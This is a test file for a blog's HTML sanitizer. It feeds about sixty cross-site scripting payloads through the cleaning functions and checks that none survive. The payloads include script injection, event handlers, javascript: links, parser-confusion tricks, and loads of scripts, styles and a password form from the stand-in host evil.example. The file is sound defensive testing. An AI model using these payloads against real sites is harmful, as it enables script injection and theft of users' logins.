// @vitest-environment jsdom
import { assert, property, string } from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanHtml, htmlToShow } from './clean-html.ts'

/** Ways to bring a program into a page: those of the OWASP and PortSwigger cheat sheets, and parser tricks. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x>',
  '<script\u0000>alert(1)</script>',
  '<p onclick="alert(1)">x</p>',
  '<p onclick=alert(1)//>x</p>',
  '<p/onmouseover="alert(1)">x</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="/pictures/a-b-480.webp" onerror="alert(1)" alt="x">',
  '<img src="/pictures/a-b-480.webp"onload="alert(1)"alt="x">',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/pictures/../graphql?query=mutation.webp">',
  '<img srcset="https://evil.example/x 1x" src="/pictures/a-b-480.webp" alt="x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://good.example" style="position:fixed;inset:0">x</a>',
  '<a href="https://good.example" onfocus=alert(1) autofocus tabindex=1>x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p id="__proto__" name="cookie">x</p>',
  '<h2 class="admin" data-x="y">x</h2>',
]

const allowed: Record<string, string[]> = {
  P: [],
  H2: [],
  H3: [],
  STRONG: [],
  EM: [],
  UL: [],
  OL: ['start'],
  LI: [],
  BLOCKQUOTE: [],
  A: ['href'],
  IMG: ['src', 'alt', 'srcset', 'sizes', 'width', 'height', 'loading'],
  BR: [],
  HR: [],
}

const page = document.implementation.createHTMLDocument('')

/** As a browser takes it from a page of ours. */
const leadsToProgram = (href: string) =>
  URL.canParse(href, 'https://hotel.example/blog/x') &&
  !['https:', 'http:', 'mailto:', 'tel:'].includes(new URL(href, 'https://hotel.example/blog/x').protocol)

/** Everything in the text, read as a browser reads it, that no article may have. */
const foreign = (html: string): string[] => {
  const box = page.createElement('div')
  box.innerHTML = html
  return [...box.querySelectorAll('*')].flatMap((element) => {
    const attributes = allowed[element.tagName]
    if (!attributes) return [element.tagName]
    const extra = element.getAttributeNames().filter((name) => !attributes.includes(name))
    const href = element.getAttribute('href')
    const src = element.getAttribute('src')
    const leads = href === null || !leadsToProgram(href)
    const shows = src === null || /^\/pictures\/[\w/-]+\.webp$/.test(src)
    return [...extra, ...(leads ? [] : [href]), ...(shows ? [] : [src])]
  })
}

describe.each([
  ['saved', cleanHtml],
  ['shown', htmlToShow],
])('what is %s', (_, clean) => {
  it.each(attacks)('has no program in it: %j', (attack) => {
    for (const html of [attack, `<p>Before ${attack} after</p>`, `<blockquote>${attack}`]) {
      expect(foreign(clean(html))).toEqual([])
      expect(clean(html)).not.toMatch(/<script|alert\(1\)[^<]*"[^<]*>/i)
    }
  })

  it('is clean whatever was written', () => {
    const piece = string({ unit: 'binary-ascii', maxLength: 60 })
    assert(property(piece, piece, (a, b) => foreign(clean(`<p>${a}<img ${b}><a href="${a}">${b}</a>`)).length === 0))
  })

  it.each(attacks)('is not cleaned any further by cleaning it again: %j', (attack) => {
    expect(clean(clean(attack))).toBe(clean(attack))
  })
})

it('keeps what an article consists of', () => {
  const html = [
    '<h2>A walk</h2><p>With <strong>strong</strong> and <em>soft</em> words,<br />two lines.</p>',
    '<ul><li><p>one</p></li></ul><ol start="3"><li>three</li></ol><blockquote><p>So it is.</p></blockquote><hr />',
    '<p><a href="/things-to-do">here</a> <a href="https://example.com/?a=1&amp;b=2">there</a>',
    '<a href="mailto:desk@example.com">mail</a> <a href="tel:+15551234">call</a></p>',
    '<img src="/pictures/uploads/0123456789abcdef0123-1600x900-800.webp" alt="The sea" />',
  ].join('')
  expect(cleanHtml(html)).toBe(html)
})

it.each([
  ['<b>x</b>', '<strong>x</strong>'],
  ['<i>x</i>', '<em>x</em>'],
  ['<h1>x</h1>', '<h2>x</h2>'],
  ['<div class="a"><span>x</span></div>', 'x'],
  ['<p>a &lt;b&gt; &amp; c</p>', '<p>a &lt;b&gt; &amp; c</p>'],
])('makes of %j %j', (html, kept) => {
  expect(cleanHtml(html)).toBe(kept)
})

it('gives an uploaded picture its sizes and its room when it is shown', () => {
  const shown = htmlToShow('<img src="/pictures/uploads/0123456789abcdef0123-1000x667-800.webp" alt="The sea">')
  const address = '/pictures/uploads/0123456789abcdef0123-1000x667'
  expect(shown).toContain(`srcset="${address}-480.webp 480w, ${address}-800.webp 800w, ${address}-1000.webp 1000w"`)
  expect(shown).toContain('width="1000" height="667" loading="lazy"')
})
